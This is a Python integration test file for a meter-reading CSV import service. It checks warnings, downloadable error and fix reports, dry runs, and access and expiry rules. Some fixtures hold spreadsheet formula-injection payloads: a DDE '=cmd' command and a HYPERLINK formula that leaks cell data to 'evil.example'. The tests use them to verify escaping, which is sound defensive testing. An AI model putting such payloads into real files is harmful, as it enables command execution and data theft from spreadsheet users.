"""Warnings, the error report and its fix file, and dry runs, through the real handlers."""

from __future__ import annotations

import csv
import io
from urllib.parse import parse_qs, urlparse

import boto3

from tests.integration.helpers import call_route, get_job, import_csv, post_csv
from tests.support import QueueDriver, readings_of


def report_links(job_id: str, user: str = "alice") -> dict:
    return call_route(
        "status", "GET", f"/imports/{job_id}/errors", "/imports/{job_id}/errors", user, job_id=job_id
    )


def download(stack, url: str) -> list[list[str]]:
    """What the link serves: the object it names, read back (the signature is checked by S3 in AWS)."""
    key = urlparse(url).path.lstrip("/").removeprefix(f"{stack.bucket}/")
    body = boto3.client("s3").get_object(Bucket=stack.bucket, Key=key)["Body"].read()
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for spreadsheets
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


HEADER = "MPAN,ReadDateTime,ReadValue,Unit"
MIXED = "\r\n".join(
    [
        HEADER,
        "1900000000001,2025-11-01 00:00,1.5,kWh",
        "1900000000001,2025-11-01 00:30,=cmd|' /C calc'!A0,kWh",  # a formula where a number goes
        "1900000000001,2025-11-01 01:00,-2.5,kWh",  # negative: a warning, kept
        "@SUM(A1),2025-11-01 01:30,1,kWh",  # a meter id that is a formula
        "1900000000001,2025-11-01 02:00,99999,kWh",  # implausible for half an hour
        "1900000000001,2025-11-01 00:00,1.7,kWh",  # the first row again: last wins
        "1900000000001,2031-01-01 00:00,1,kWh",  # in the future
        "1900000000001,2025-11-01 02:30,12,MWh,oops",  # a cell too many (not blank)
        "",
    ]
).encode()


def test_warnings_keep_their_rows_and_are_counted_apart_from_errors(stack):
    job, _ = import_csv(stack, MIXED, throttle="small")

    assert job["status"] == "completed"
    assert (job["processed_rows"], job["imported_rows"], job["failed_rows"], job["warning_rows"]) == (
        8,
        5,
        3,
        4,
    )
    assert job["warnings"] == [
        "Line 4, column 3 (ReadValue): negative reading -2.5 kWh",
        "Line 6, column 3 (ReadValue): 99999 kWh is far more than a meter records in half an hour "
        "(over 5000 kWh): check the unit",
        "Line 7: meter 1900000000001 at 2025-11-01 half hour 1 (2025-11-01 00:00 UTC) appears earlier in the "
        "file too; this row's is kept",
        "Line 8, column 3 (ReadValue): the reading is for 2031-01-01 half hour 1 (2031-01-01 00:00 UTC), "
        "which is in the future",
    ]
    assert [e.split(":")[0] for e in job["errors"]] == [
        "Line 3, column 3 (ReadValue)",
        "Line 5, column 1 (MPAN)",
        "Line 9",
    ]
    readings = readings_of(stack.readings_table)
    assert readings[("1900000000001", "hh#2025-11-01T00:00Z")] == ("1.7", False)  # the later row won
    assert len(readings) == 4  # the repeat rewrote one reading


def test_the_error_report_is_a_download_with_every_failed_row_escaped_for_spreadsheets(stack):
    job, _ = import_csv(stack, MIXED, throttle="small")
    answer = report_links(job["job_id"])

    assert answer["statusCode"] == 200
    links = answer["json"]
    assert links["failed_rows"] == 3 and links["expires_in"] == 300
    query = parse_qs(urlparse(links["errors_url"]).query)
    assert query["response-content-disposition"] == ['attachment; filename="readings-errors.csv"']
    report = download(stack, links["errors_url"])
    assert report[0] == [
        "line",
        "column",
        "column_name",
        "message",
        "MPAN",
        "ReadDateTime",
        "ReadValue",
        "Unit",
    ]
    assert [row[:3] for row in report[1:]] == [["3", "3", "ReadValue"], ["5", "1", "MPAN"], ["9", "", ""]]
    assert report[1][6] == "'=cmd|' /C calc'!A0"  # the formula is text now
    assert report[2][4] == "'@SUM(A1)" and report[2][3].startswith("meter id '@SUM(A1)' starts with @")
    assert report[3][3].startswith("too many cells") and report[3][4:] == [
        "1900000000001",
        "2025-11-01 02:30",
        "12",
        "MWh",
        "oops",
    ]


def test_the_fix_file_holds_only_the_failed_rows_and_imports_again_as_a_normal_import(stack):
    job, _ = import_csv(stack, MIXED, throttle="small")
    fix = download(stack, report_links(job["job_id"])["json"]["fix_url"])
    assert fix[0] == HEADER.split(",")
    assert [row[0] for row in fix[1:]] == ["1900000000001", "'@SUM(A1)", "1900000000001"]

    # The person fixes the three rows in a spreadsheet and imports the file again.
    fix[1][2], fix[2][0], fix[3] = "3.25", "1900000000002", fix[3][:4]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(fix)
    again, _ = import_csv(stack, buffer.getvalue().encode(), filename="readings-fix.csv", throttle="small")

    assert (again["status"], again["imported_rows"], again["failed_rows"]) == ("completed", 3, 0)
    readings = readings_of(stack.readings_table)
    assert readings[("1900000000001", "hh#2025-11-01T00:30Z")] == ("3.25", False)
    assert ("1900000000002", "hh#2025-11-01T01:30Z") in readings


def test_the_fix_file_header_is_escaped_for_spreadsheets_and_still_imports_again(stack):
    # A header cell a spreadsheet would run, and a unit column whose name starts with a minus.
    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"open")'
    buffer = io.StringIO()
    csv.writer(buffer).writerows(
        [
            ["MPAN", "ReadDateTime", "ReadValue", "-Unit", formula],
            ["1900000000001", "2025-11-01 00:00", "1.5", "kWh", "note"],
            ["1900000000001", "2025-11-01 00:30", "x", "kWh", "note"],  # fails: not a number
        ]
    )
    job, _ = import_csv(stack, buffer.getvalue().encode(), throttle="small")
    assert (job["status"], job["imported_rows"], job["failed_rows"]) == ("completed", 1, 1)
    links = report_links(job["job_id"])["json"]

    fix = download(stack, links["fix_url"])
    escaped = ["MPAN", "ReadDateTime", "ReadValue", "'-Unit", "'" + formula]
    assert fix[0] == escaped  # as in the error report: one escaping for both files
    assert download(stack, links["errors_url"])[0][4:] == escaped

    # The person corrects the value and imports the fix file as it came.
    fix[1][2] = "2.25"
    buffer = io.StringIO()
    csv.writer(buffer).writerows(fix)
    again, _ = import_csv(stack, buffer.getvalue().encode(), filename="readings-fix.csv", throttle="small")

    assert (again["status"], again["imported_rows"], again["failed_rows"]) == ("completed", 1, 0)
    assert readings_of(stack.readings_table)[("1900000000001", "hh#2025-11-01T00:30Z")] == ("2.25", False)


def test_the_report_is_refused_while_the_job_runs_and_is_empty_when_nothing_failed(stack):
    job_id = post_csv(b"MPAN,Date,Reading\n1,2025-11-01,4\n")["json"]["job_id"]
    assert report_links(job_id)["statusCode"] == 409
    QueueDriver(stack.queue_url).drain()

    links = report_links(job_id)["json"]
    assert links["failed_rows"] == 0
    assert download(stack, links["errors_url"]) == [
        ["line", "column", "column_name", "message", "MPAN", "Date", "Reading"]
    ]
    assert report_links(job_id, user="mallory")["statusCode"] == 404  # only the owner's


def test_a_report_the_job_ended_without_is_assembled_when_asked(stack):
    job_id = post_csv(b"MPAN,Date,Reading\n1,2025-11-01,x\n")["json"]["job_id"]
    QueueDriver(stack.queue_url).drain()
    s3 = boto3.client("s3")
    for name in ("errors.csv", "fix.csv"):
        s3.delete_object(Bucket=stack.bucket, Key=f"reports/{job_id}/{name}")

    links = report_links(job_id)["json"]
    assert download(stack, links["errors_url"])[1][:3] == ["2", "3", "Reading"]


def test_an_expired_report_is_gone_not_silently_empty(stack):
    job_id = post_csv(b"MPAN,Date,Reading\n1,2025-11-01,x\n")["json"]["job_id"]
    QueueDriver(stack.queue_url).drain()
    s3 = boto3.client("s3")
    for item in s3.list_objects_v2(Bucket=stack.bucket, Prefix=f"reports/{job_id}/")["Contents"]:
        s3.delete_object(Bucket=stack.bucket, Key=item["Key"])  # as the 30-day lifecycle rule does

    answer = report_links(job_id)
    assert answer["statusCode"] == 410 and "expired" in answer["json"]["message"]


def test_a_dry_run_reports_inserts_updates_errors_and_warnings_and_writes_nothing(stack):
    import_csv(stack, "\r\n".join([HEADER, "1900000000001,2025-11-01 00:00,1.5,kWh", ""]).encode())
    before = readings_of(stack.readings_table)
    body = "\r\n".join(
        [
            HEADER,
            "1900000000001,2025-11-01 00:00,9,kWh",  # updates the stored reading
            "1900000000001,2025-11-01 00:30,9,kWh",  # new
            "1900000000001,2025-11-01 00:30,8,kWh",  # repeats the row above: an update, and a warning
            "1900000000001,2025-11-01 01:00,-1,kWh",  # new, with a warning
            "1900000000001,2025-11-01 01:30,x,kWh",  # an error
            "",
        ]
    ).encode()
    job, _ = import_csv(stack, body, dry_run="true")

    assert (job["status"], job["dry_run"]) == ("completed", True)
    assert (job["would_insert_rows"], job["would_update_rows"]) == (2, 2)
    assert (job["imported_rows"], job["failed_rows"], job["warning_rows"]) == (4, 1, 2)
    assert readings_of(stack.readings_table) == before  # nothing written
    assert download(stack, report_links(job["job_id"])["json"]["errors_url"])[1][0] == "6"


def test_a_daily_reading_beside_half_hourly_ones_for_the_same_day_is_a_warning_both_ways(stack):
    import_csv(stack, b"MPAN,ReadDateTime,ReadValue\n1900000000001,2025-11-01 10:00,1\n")
    daily, _ = import_csv(
        stack, b"MPAN,Date,Reading\n1900000000001,2025-11-01,30\n1900000000001,2025-11-02,31\n"
    )
    assert daily["warning_rows"] == 1
    assert daily["warnings"] == [
        "Line 2: meter 1900000000001 already has half-hourly readings for 2025-11-01"
    ]

    hh, _ = import_csv(stack, b"MPAN,ReadDateTime,ReadValue\n1900000000001,2025-11-02 00:00,1\n")
    assert hh["warnings"] == ["Line 2: meter 1900000000001 already has a daily reading for 2025-11-02"]
    assert (hh["imported_rows"], hh["warning_rows"]) == (1, 1)


def test_a_cancelled_job_has_the_report_of_what_it_read(stack):
    body = "\r\n".join(
        [HEADER] + [f"1900000000001,2025-11-01 00:00,{'x' if i % 2 else 1},kWh" for i in range(50)]
    )
    job_id = post_csv(body.encode(), throttle="small")["json"]["job_id"]
    call_route("upload", "POST", f"/imports/{job_id}/cancel", "/imports/{job_id}/cancel", job_id=job_id)
    QueueDriver(stack.queue_url).drain()

    assert get_job(job_id)["json"]["status"] == "cancelled"
    assert download(stack, report_links(job_id)["json"]["errors_url"])[1:] == []


def test_a_sites_dry_run_writes_no_sites_and_tells_inserts_from_updates(stack):
    from tests.support import SAMPLES

    body = (SAMPLES / "sites.csv").read_bytes()
    first, _ = import_csv(stack, body, format="sites", dry_run="true")
    assert (first["would_insert_rows"], first["would_update_rows"]) == (5, 0)
    assert boto3.client("dynamodb").scan(TableName=stack.sites_table)["Items"] == []

    import_csv(stack, body, format="sites")
    again, _ = import_csv(stack, body, format="sites", dry_run="true")
    assert (again["would_insert_rows"], again["would_update_rows"]) == (0, 5)
